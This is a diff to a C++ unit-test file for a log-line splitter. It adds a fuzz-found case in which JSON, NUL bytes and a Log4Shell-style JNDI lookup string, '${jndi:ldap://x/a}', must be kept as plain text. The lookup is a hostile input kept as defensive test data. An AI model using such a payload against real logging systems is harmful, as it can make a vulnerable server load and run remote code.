@@ -75,6 +75,18 @@ TEST(LogStructureTest, JsonSyntaxDoesNotCloseTheValue) {
   EXPECT_EQ(truncated[0].field, "");
 }
 
+// Found by log_structure_fuzz: the JSON parser stops at a NUL, so "{}" then
+// NULs then a lookup parsed as an empty object and the lookup was never seen.
+TEST(LogStructureTest, JsonWithoutValuesOrWithNulsIsText) {
+  std::string line("{}\0\0${jndi:ldap://x/a}", 23);
+  auto ms = split_log_line(line);
+  ASSERT_EQ(ms.size(), 1u);
+  EXPECT_EQ(ms[0].text, line);
+  auto empty = split_log_line("{\"a\": 1, \"b\": [true, null]}");
+  ASSERT_EQ(empty.size(), 1u);
+  EXPECT_EQ(empty[0].field, "");
+}
+
 TEST(LogStructureTest, Logfmt) {
   auto ms = split_log_line(R"(ts=2021-12-10T12:00:00Z level=info msg="login \"bob\" ${x" path=/a?q=%24 ua=curl)");
   const LogMessage* msg = find_field(ms, "msg");
